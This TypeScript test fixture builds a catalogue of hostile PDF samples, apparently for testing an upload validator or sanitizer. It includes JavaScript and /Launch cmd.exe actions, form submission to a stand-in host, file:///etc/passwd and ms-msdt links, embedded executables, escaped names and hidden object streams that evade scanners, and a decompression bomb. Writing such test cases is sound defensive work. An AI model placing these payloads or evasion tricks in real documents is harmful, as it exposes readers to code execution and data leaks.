import { deflateSync } from "node:zlib";
import { objectStream, pdf, pdfFile, stream } from "../pdf-file.ts";
import { archive } from "../resumes.ts";

const script = "<script>alert(1)</script>";
const alert = "<< /S /JavaScript /JS (app.alert(1)) >>";
/** Runs something when the file is opened. */
const opening = (action: string) => pdfFile({ catalog: `/OpenAction ${action}` });
const changed = (from: string, to: string, file = pdf()) =>
  Buffer.from(file.toString("latin1").replace(from, to), "latin1");
/** An object that only a reader who follows these bytes finds. */
const annotation = (entries: string) =>
  pdfFile({ page: "/Annots [4 0 R]", objects: [`<< /Type /Annot /Rect [0 0 9 9] ${entries} >>`] });
const link = (address: string) => annotation(`/Subtype /Link /A << /S /URI /URI (${address}) >>`);
const packedAlert = { packed: [alert], catalog: "/OpenAction 5 0 R" };

/** Files that are no whole PDF, or two kinds of file at once (Albertini's polyglots, "Corkami"). */
const broken: [string, Uint8Array][] = [
  ["three bytes of a PDF", Buffer.from("%PD")],
  ["a PDF's first line alone", Buffer.from("%PDF-1.7\n")],
  ["a PDF without a page", changed("/Type /Page /", "/Type /Leaf /")],
  ["a PDF without a catalogue", changed("/Catalog", "/Register")],
  ["lower-case pdf", changed("%PDF", "%pdf")],
  ["a PDF behind markup", Buffer.concat([Buffer.from(script), pdf()])],
  ["a PDF with markup behind it", Buffer.concat([pdf(), Buffer.from(script)])],
  ["a PDF with an archive behind it", Buffer.concat([pdf(), archive([{ name: "a.class", data: "x" }])])],
  [
    "a PDF whose archive's comment ends like a PDF",
    Buffer.concat([pdf(), archive([{ name: "a", data: "x" }], "startxref\n0\n%%EOF\n")]),
  ],
  ["a PDF with a program behind it", Buffer.concat([pdf(), Buffer.from("MZ\x90\x00")])],
  ["a PDF whose object never ends", pdfFile({ objects: ["<< /A << /B ("] })],
  ["a PDF of arrays in arrays, a hundred thousand deep", pdfFile({ objects: ["[".repeat(100_000)] })],
];

/** What runs, starts, sends or plays (ISO 32000-2, 12.6.4 and 13; Stevens, "PDFiD", lists what malware uses). */
const active: [string, Uint8Array][] = [
  ["a PDF that runs a script", opening(alert)],
  ["a PDF with a script that nothing refers to", pdfFile({ objects: [alert] })],
  [
    "a PDF with a script in its tree of names",
    pdfFile({ catalog: `/Names << /JavaScript << /Names [(a) ${alert}] >> >>` }),
  ],
  ["a PDF with a script on its page", pdfFile({ page: `/AA << /O ${alert} >>` })],
  [
    "a PDF with a script in a stream",
    pdfFile({ catalog: "/OpenAction << /S /JavaScript /JS 4 0 R >>", objects: [stream("", "app.alert(1)")] }),
  ],
  ["a PDF that starts a program", opening("<< /S /Launch /F (cmd.exe) >>")],
  ["a PDF that starts a program of Windows", opening("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")],
  ["a PDF that opens another on a share", opening("<< /S /GoToR /F (\\\\\\\\host\\\\share\\\\a.pdf) /D [0 /Fit] >>")],
  ["a PDF that opens an embedded one", opening("<< /S /GoToE /T << /R /C /N (a.pdf) >> >>")],
  ["a PDF that sends a form", opening("<< /S /SubmitForm /F << /FS /URL /F (http://host/) >> >>")],
  ["a PDF that fetches data into a form", opening("<< /S /ImportData /F (http://host/a.fdf) >>")],
  [
    "a PDF with an XFA form",
    pdfFile({ catalog: "/AcroForm << /Fields [] /XFA 4 0 R >>", objects: [stream("", "<xdp/>")] }),
  ],
  ["a PDF that plays a rendition", opening("<< /S /Rendition /OP 0 >>")],
  ["a PDF with a film", annotation("/Subtype /Movie /Movie << /F (a.avi) >>")],
  ["a PDF with a sound", annotation("/Subtype /Sound /Sound 5 0 R")],
  ["a PDF with rich media", annotation("/Subtype /RichMedia /RichMediaContent << >>")],
  ["a PDF with a model", annotation("/Subtype /3D /3DD 5 0 R")],
  ["a PDF with a link that is a script", link("javascript:alert(1)")],
  ["a PDF with a link to a file", link("file:///etc/passwd")],
  ["a PDF with a link to a share", link("\\\\\\\\host\\\\share")],
  ["a PDF with a link to a protocol's program", link("ms-msdt:/id PCWDiagnostic")],
];

/** What holds, or is, something other than a document (7.11.4 embedded files, 7.6 encryption, 7.3.8 streams). */
const containers: [string, Uint8Array][] = [
  ["a PDF with a file in it", pdfFile({ objects: [stream("/Type /EmbeddedFile", "MZ")] })],
  ["a PDF with a list of files", pdfFile({ catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>" })],
  ["a PDF with a file beside its page", pdfFile({ objects: [`<< /F (a.exe) /EF << /F 5 0 R >> >>`] })],
  ["a PDF with an attachment", annotation("/Subtype /FileAttachment /FS 5 0 R")],
  ["a PDF that is a portfolio", pdfFile({ catalog: "/Collection << /View /D >>" })],
  ["a PDF whose data lie elsewhere", pdfFile({ objects: [stream("/F (http://host/a)", "")] })],
  ["an encrypted PDF", pdfFile({ trailer: "/Encrypt << /Filter /Standard /V 2 /R 3 >>" })],
  ["an encrypted PDF with packed objects", pdfFile({ packed: ["null"], trailer: "/Encrypt << /Filter /Standard >>" })],
  ["a PDF with a filter of a reader's own", pdfFile({ objects: [stream("/Filter [/Crypt /FlateDecode]", "")] })],
  ["a PDF that is packed again and again", pdfFile({ objects: [stream("/Filter [/FlateDecode /FlateDecode]", "")] })],
];

/** The same out of sight: escapes in names, object streams, replaced revisions, places that parsers read differently. */
const hidden: [string, Uint8Array][] = [
  ["a script in escapes", opening("<< /S /J#61vaScript /J#53 (app.alert(1)) >>")],
  ["a script in lower-case escapes", opening("<< /S /#4aavaScript /#4a#53 (app.alert(1)) >>")],
  ["a program in escapes", opening("<< /S /#4c#61#75#6e#63#68 /F (cmd.exe) >>")],
  ["a form in escapes", pdfFile({ catalog: "/AcroForm << /X#46A (x) >>" })],
  ["encryption in escapes", pdfFile({ trailer: "/#45ncrypt << /Filter /Standard >>" })],
  ["a script among packed objects", pdfFile(packedAlert)],
  ["a program among packed objects", pdfFile({ packed: ["null", "<< /S /Launch /F (cmd.exe) >>"] })],
  ["a file among packed objects", pdfFile({ packed: ["<< /EF << /F 9 0 R >> >>"] })],
  ["a sent form among packed objects, in escapes", pdfFile({ packed: ["<< /S /S#75bmitForm /F (http://host) >>"] })],
  ["packed objects that say nothing of it", pdfFile({ ...packedAlert, repack: (packed) => objectStream(packed, "") })],
  [
    "packed objects that say they are a picture",
    pdfFile({ ...packedAlert, repack: (packed) => objectStream(packed, "/Type /XObject") }),
  ],
  [
    "packed objects of two types",
    pdfFile({ ...packedAlert, repack: (packed) => objectStream(packed, "/Type /ObjStm /Type /XObject") }),
  ],
  [
    "packed objects that say they are fewer",
    pdfFile({ ...packedAlert, packed: ["null", alert], repack: (packed) => objectStream({ ...packed, count: 1 }) }),
  ],
  [
    "packed objects in hexadecimal",
    pdfFile({
      ...packedAlert,
      repack: ({ index, data, count }) =>
        stream(
          `/Type /ObjStm /N ${count} /First ${index.length} /Filter /ASCIIHexDecode`,
          Buffer.from(index + data).toString("hex"),
        ),
    }),
  ],
  [
    "packed objects behind a predictor",
    pdfFile({
      ...packedAlert,
      repack: ({ index, data, count }) =>
        stream(
          `/Type /ObjStm /N ${count} /First ${index.length} /DecodeParms << /Predictor 12 >> /Filter /FlateDecode`,
          deflateSync(index + data),
        ),
    }),
  ],
  [
    "packed objects whose data are cut",
    pdfFile({
      ...packedAlert,
      repack: ({ index, data, count }) =>
        stream(
          `/Type /ObjStm /N ${count} /First ${index.length} /Filter /FlateDecode`,
          deflateSync(index + data).subarray(0, 20),
        ),
    }),
  ],
  [
    "packed objects that burst",
    pdfFile({
      ...packedAlert,
      repack: ({ index, data, count }) =>
        stream(
          `/Type /ObjStm /N ${count} /First ${index.length} /Filter /FlateDecode`,
          deflateSync(Buffer.concat([Buffer.from(index + data), Buffer.alloc(70 * 1024 * 1024, " ")])),
        ),
    }),
  ],
  ["an action of two kinds", opening("<< /S /Launch /S /GoTo /F (cmd.exe) >>")],
  ["a key twice", opening("<< /S /URI /URI (file:///etc/passwd) /URI (https://example.com) >>")],
  [
    "a script in a revision that another replaces",
    changed("xref\n", "4 0 obj\nnull\nendobj\nxref\n", pdfFile({ objects: [alert] })),
  ],
  [
    "a script in an appended revision",
    Buffer.concat([
      pdf(),
      Buffer.from(
        `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${alert} >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 5 /Prev 9 >>\nstartxref\n0\n%%EOF\n`,
      ),
    ]),
  ],
  ["a script inside of a stream's data", pdfFile({ objects: [stream("", `9 0 obj\n${alert}\nendobj`)] })],
  ["a script behind a number with comments", pdfFile({ objects: [stream("", `9 %\n0 %\nobj${alert}`)] })],
  ["a script behind a comment", pdfFile({ objects: [stream("", `9 0obj%\n${alert}`)] })],
  [
    "packed objects behind comments",
    pdfFile({
      objects: [
        Buffer.concat([
          Buffer.from("null\nendobj\n9 %\n0 %\nobj%\n"),
          objectStream({ index: "10 0 ", data: alert, count: 1 }),
        ]),
      ],
    }),
  ],
  ["a trailer that begins a program", pdfFile({ trailer: "/Info << /A << /S /Launch /F (cmd.exe) >> >>" })],
];

export const hostilePdfs = [...broken, ...active, ...containers, ...hidden];
